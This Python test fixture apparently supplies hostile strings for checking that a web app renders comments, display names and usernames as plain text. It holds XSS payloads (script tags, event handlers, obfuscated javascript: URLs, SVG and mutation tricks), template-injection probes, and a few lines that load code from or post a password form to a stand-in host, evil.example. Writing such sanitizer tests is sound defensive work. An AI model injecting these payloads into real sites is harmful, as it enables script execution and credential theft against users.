"""Hostile strings a reader (or an imported export) may hand us, to be shown as text only.

Payloads that could execute set `window.__xss` (and open a dialog) so a browser test can tell
whether any of them ran.
"""

# Comment bodies: plain markup, our markdown subset, obfuscated schemes, breakouts.
PAYLOADS = [
    # Script elements
    "<script>window.__xss=1;alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<<script>window.__xss=1;//<</script>",
    "<script/src=data:,window.__xss=1></script>",
    # Event-handler attributes
    '<img src=x onerror="window.__xss=1;alert(1)">',
    "<img src=x onerror=window.__xss=1//",
    '<svg onload="window.__xss=1;alert(1)">',
    "<body onload=window.__xss=1>",
    '<div onmouseover="window.__xss=1;alert(1)">hover me</div>',
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    '<img src="x" alt=""" onerror=window.__xss=1>',
    # Dangerous URL schemes, plain, mixed-case, entity- and whitespace-obfuscated
    '<a href="javascript:window.__xss=1;alert(1)">click</a>',
    '<a href="JaVaScRiPt:window.__xss=1">mixed case</a>',
    '<a href="&#106;avascript:window.__xss=1">entity</a>',
    '<a href="jav&#x09;ascript:window.__xss=1">tab entity</a>',
    '<a href="jav\tascript:window.__xss=1">raw tab</a>',
    '<a href=" javascript:window.__xss=1">leading space</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="jav\u200bascript:window.__xss=1">zero width</a>',
    # Markdown links and images
    "[x](javascript:window.__xss=1)",
    "[x](JAVASCRIPT:window.__xss=1)",
    "[x](&#106;avascript:window.__xss=1)",
    "[x](data:text/html,<script>window.__xss=1</script>)",
    "[x](vbscript:msgbox(1))",
    '[x](https://example.org/" onmouseover="window.__xss=1)',
    "![img](javascript:window.__xss=1)",
    "<javascript:window.__xss=1>",
    "[ok](https://example.org/page) and [mail](mailto:desk@example.org)",
    # SVG and MathML, mutation XSS
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><a xlink:href=javascript:window.__xss=1><text y=20>svg link</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    # CSS
    '<p style="background:url(javascript:window.__xss=1)">css url</p>',
    '<div style="width: expression(window.__xss=1)">expression</div>',
    "<style>body{background:url(javascript:window.__xss=1)}</style>",
    # Frames, objects, base, meta, forms, links
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<embed src="javascript:window.__xss=1">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<form action="https://evil.example/steal"><input name=password>'
    '<button formaction="javascript:window.__xss=1">go</button></form>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href='https://example.org' target=_blank rel=opener>opener</a>",
    # Template syntax (server-side and client-side)
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "#{7*7} <%= 7*7 %> {{constructor.constructor('window.__xss=1')()}}",
    # Breaking out of the element or attribute around the text
    "</textarea><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</style><script>window.__xss=1</script>",
    '" onmouseover="window.__xss=1" x="',
    "' onmouseover='window.__xss=1' x='",
    '"><img src=x onerror=window.__xss=1>',
    "--><img src=x onerror=window.__xss=1><!--",
    "<!--<img src=x onerror=window.__xss=1>-->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    # Invisible and direction tricks
    "\u202eexe.gnp\u202c harmless file",
    "java\u200d\u200bscript:window.__xss=1",
    # Broken markup, markdown wrapping
    "<img src=x onerror=window.__xss=1",
    "**<img src=x onerror=window.__xss=1>** _<b onclick=window.__xss=1>b</b>_",
    "> <script>window.__xss=1</script>\n> quoted",
]

# Display names (at most 50 characters: the column's length).
NAME_PAYLOADS = [
    "<img src=x onerror=window.__xss=1>",
    "<script>window.__xss=1</script>",
    '"><svg onload=window.__xss=1>',
    "</title><script>window.__xss=1</script>",
    "' onmouseover='window.__xss=1' x='",
    '" onmouseover="window.__xss=1" x="',
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "</textarea><b onclick=window.__xss=1>x</b>",
    "<a href=javascript:window.__xss=1>me</a>",
    "\u202eevil\u202c Reader",
]

# Usernames set through the model (the sign-up form would refuse them).
USERNAME_PAYLOADS = [
    "<svg/onload=window.__xss=1>",
    "</script><script>window.__xss=1</script>",
    '"onmouseover="window.__xss=1"',
    "{{7*7}}user",
]

# Strings that must reach the page literally, never evaluated.
TEMPLATE_LITERALS = ["{{7*7}}", "{% debug %}", "${7*7}"]

assert len(PAYLOADS) >= 40
assert all(len(name) <= 50 for name in NAME_PAYLOADS)
